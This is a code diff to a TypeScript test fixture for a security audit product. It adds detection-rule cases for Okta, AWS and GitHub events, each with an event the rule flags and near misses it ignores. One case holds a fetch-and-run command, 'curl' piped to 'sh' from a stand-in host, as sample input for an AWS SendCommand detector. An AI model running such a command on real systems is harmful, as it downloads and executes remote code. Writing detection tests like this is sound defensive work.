@@ -1,4 +1,5 @@
 import { fileURLToPath } from 'node:url';
+import type { AuditEvent } from '../../../../src/audit/index.js';
 import { act, at, failed, login, many, type History } from './history.js';
 
 /** Rules of a team, made of the facts that public rules about Okta and GitHub name. */
@@ -12,8 +13,74 @@ const github = (minute: number, action: string, actorId = 'octo') =>
     details: { source: 'github', action, org: 'acme' },
   });
 
+const fact = (source: string, details: Readonly<Record<string, unknown>>) =>
+  at(0, 'public_event', { actor: { type: 'user', id: 'eve' }, details: { source, ...details } });
+
+/** A history for a rule: an event that it finds, and those that it passes over. */
+function finds(rule: string, found: AuditEvent, ...passed: readonly AuditEvent[]): History {
+  return { rule, says: 'what a published rule finds, and what is near it', events: [found, ...passed], alerts: [rule] };
+}
+
+const okFailure = { eventType: 'user.session.start', result: 'FAILURE' };
+const policy = (action: string, arn: string) => ({
+  ...{ eventName: 'CreatePolicyVersion', arn },
+  document: `{"Effect": "Allow", "Action": "${action}", "Resource": "*"}`,
+});
+const sends = (command: string) => fact('aws', { eventName: 'SendCommand', command });
+const takes = (seconds: number) => fact('aws', { eventName: 'AssumeRole', seconds });
+
+/** The shapes of ten published rules: each finds one event. */
+const PUBLISHED: readonly History[] = [
+  finds(
+    'okta_password_as_name',
+    fact('okta', { ...okFailure, name: 'correct horse battery' }),
+    fact('okta', { ...okFailure, name: 'ada@example.com' }),
+    fact('okta', { ...okFailure, name: '0oa1' }),
+  ),
+  finds(
+    'okta_new_behaviour',
+    fact('okta', { eventType: 'policy.evaluate_sign_on', behaviors: '{New Device=POSITIVE}' }),
+    fact('okta', { eventType: 'policy.evaluate_sign_on', behaviors: '{New Device=NEGATIVE}' }),
+  ),
+  finds('okta_zone_changed', fact('okta', { eventType: 'zone.delete' }), fact('okta', { eventType: 'zone.create' })),
+  finds(
+    'aws_root',
+    fact('aws', { userType: 'Root', eventType: 'AwsApiCall' }),
+    fact('aws', { userType: 'Root', eventType: 'AwsServiceEvent' }),
+  ),
+  finds(
+    'aws_policy_allows_all',
+    fact('aws', policy('*', 'arn:aws:iam::1:user/eve')),
+    fact('aws', policy('*', 'arn:aws:sts::1:assumed-role/ci-terraform-1')),
+    fact('aws', policy('s3:Get', 'arn:aws:iam::1:user/eve')),
+  ),
+  finds(
+    'aws_login_without_mfa',
+    fact('aws', { eventName: 'ConsoleLogin', result: 'Success', mfaUsed: 'No' }),
+    fact('aws', { eventName: 'ConsoleLogin', result: 'Success', mfaUsed: 'Yes' }),
+  ),
+  finds(
+    'aws_command_loads',
+    sends('CURL https://e.example/x | sh'),
+    sends('curly | shell'),
+    sends(`${'curl'.repeat(8000)}|`),
+  ),
+  finds('aws_short_role', takes(900), takes(3600), takes(0)),
+  finds(
+    'github_public',
+    fact('github', { action: 'repo.access', visibility: 'public', before: 'private' }),
+    fact('github', { action: 'repo.access', visibility: 'public', before: 'public' }),
+  ),
+  finds(
+    'github_secrets_unchecked',
+    fact('github', { action: 'repository_secret_scanning.disable' }),
+    fact('github', { action: 'repository_secret_scanning.enable' }),
+  ),
+];
+
 /** Public shapes of attacks, in the events of Okta and GitHub, and in those of this product. */
 export const PUBLIC_HISTORIES: readonly History[] = [
+  ...PUBLISHED,
   {
     rule: 'okta_admin_role',
     says: 'a role of an administrator, and a password that is reset',
